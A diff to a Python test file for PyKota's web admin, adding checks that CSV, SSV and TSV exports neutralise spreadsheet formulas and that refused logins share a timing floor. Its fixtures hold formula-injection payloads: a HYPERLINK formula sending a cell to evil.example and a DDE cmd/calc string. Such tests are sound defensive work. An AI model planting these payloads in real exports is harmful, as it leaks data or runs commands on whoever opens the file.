@@ -3,6 +3,7 @@ what a browser would hide is checked here: cookie flags, headers, forged or repl
 hostile names, an idle session)."""
 from __future__ import annotations
 
+import csv
 import io
 import re
 import threading
@@ -42,6 +43,7 @@ def app(tmp_path_factory):
         d.close()
         application = create_app(config)
         application.testing = False
+        application.extensions["pykota"].refusal_seconds = 0.0      # one test checks the floor
         yield application
 
 
@@ -180,13 +182,31 @@ def test_an_export_disarms_what_a_spreadsheet_would_run_as_a_formula(app):
     body = logged_in(app, "jerome", "jeromepw").get("/admin/export/download?dataset=history&format=csv"
                                                     "&filters=jobid=4242").text
     line = body.splitlines()[1]
-    assert '"\'=HYPERLINK(\\"http://evil.example/?\\"&A1\\,\\"open\\")"' in line, line
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1\\,""open"")"' in line, line
     assert '"\'@SUM(1)"' in line and '"\'+cmd"' in line and '"alice"' in line, line
     raw = io.StringIO()
     writer = writer_for("csv", raw)                                  # dumpykota's writer: the title as it is
     writer.start("history", ["title"])
     writer.row({"title": title})
     assert raw.getvalue().splitlines()[1] == '"=HYPERLINK(\\"http://evil.example/?\\"&A1\\,\\"open\\")"'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "ssv", "tsv"])
+def test_no_text_of_an_export_ends_its_own_cell_in_a_spreadsheet(app, fmt):
+    """A spreadsheet reads RFC 4180, where PyKota's \\" does not keep a quote inside its cell: a
+    title closing its cell with " and a newline would start a formula of its own."""
+    title = 'report"\n=cmd|\' /C calc\'!A0\n"'
+    job_id = {"csv": "4301", "ssv": "4302", "tsv": "4303"}[fmt]
+    job = Job(job_id=job_id, user="bob", printer="hp4", date=datetime(2026, 11, 30, 10, tzinfo=timezone.utc),
+              action="ALLOW", size=1, price=100, title=title, hostname='x";"=1+1', copies=1)
+    with Directory(app.extensions["pykota"].config.ldap(admin=True)) as d:
+        history.add_job(d, job, history.new_name("hp4"))
+    body = logged_in(app, "jerome", "jeromepw").get(f"/admin/export/download?dataset=history&format={fmt}"
+                                                    f"&filters=jobid={job_id}").text
+    rows = list(csv.reader(io.StringIO(body), delimiter={"csv": ",", "ssv": ";", "tsv": "\t"}[fmt]))
+    assert len(rows) == 2 and len(rows[1]) == len(rows[0]), rows               # the header and one job
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))], rows
+    assert any(cell.startswith("report\"") for cell in rows[1]), rows         # the title, whole, in its cell
 
 
 def test_the_health_check_runs_on_request_for_admins_only(app):
@@ -238,15 +258,33 @@ def _try(app, user: str, password: str, address: str) -> int:
                        environ_base={"REMOTE_ADDR": address}).status_code
 
 
-def test_a_name_with_no_entry_costs_a_bind_like_a_wrong_password(app, monkeypatch):
-    """How long a refusal takes must not tell which names exist: an unknown name is bound too."""
-    binds = []
-    real = login_module.password_is_right
-    monkeypatch.setattr(login_module, "password_is_right", lambda *args: binds.append(args[1]) or real(*args))
-    assert _try(app, "nosuchname", "guess", "10.5.5.5") == 401
-    assert _try(app, "alice", "guess", "10.5.5.6") == 401
-    assert binds == ["cn=pkweb no such user,dc=example,dc=org", "uid=alice,ou=People,dc=example,dc=org"], binds
-    assert _try(app, "nosuchname", "", "10.5.5.7") == 401                  # and nothing more is said
+def test_no_refused_login_is_answered_sooner_than_the_floor(app):
+    """A wrong password costs the directory a hash check that an unknown name does not: how long
+    a refusal takes must not tell which names exist, so none comes sooner than the floor."""
+    web = app.extensions["pykota"]
+    saved, web.refusal_seconds = web.refusal_seconds, 0.4
+    try:
+        for name, address in (("nosuchname", "10.5.5.5"), ("alice", "10.5.5.6"), ("x" * 5000, "10.5.5.7")):
+            started = time.monotonic()
+            assert _try(app, name, "guess", address) == 401
+            assert time.monotonic() - started >= 0.4, name[:20]
+    finally:
+        web.refusal_seconds = saved
+
+
+def test_the_throttle_keeps_nothing_for_refused_tries_and_forgets_old_failures():
+    now = [0.0]
+    throttle = Throttle(clock=lambda: now[0])
+    for number in range(20):
+        assert throttle.begin(f"name{number}", "10.6.6.6") == 0                # the address's 20 tries
+    kept = len(throttle._failures)
+    for number in range(10_000):                                               # then a flood, all refused
+        assert throttle.begin(f"flood{number}", "10.6.6.6") > 0
+    assert len(throttle._failures) == kept == 41                               # 20 pairs, 20 names, 1 address
+    now[0] = throttle.window + 1                                               # a quarter of an hour later
+    for number in range(1000):                                                 # up to the next sweep
+        assert throttle.begin(f"user{number}", f"10.7.{number // 250}.{number % 250}") == 0
+    assert not [key for key in throttle._failures if "10.6.6.6" in key or key[1].startswith(("name", "flood"))]
 
 
 def test_a_name_typed_wrong_from_one_address_is_not_locked_for_the_others(app):
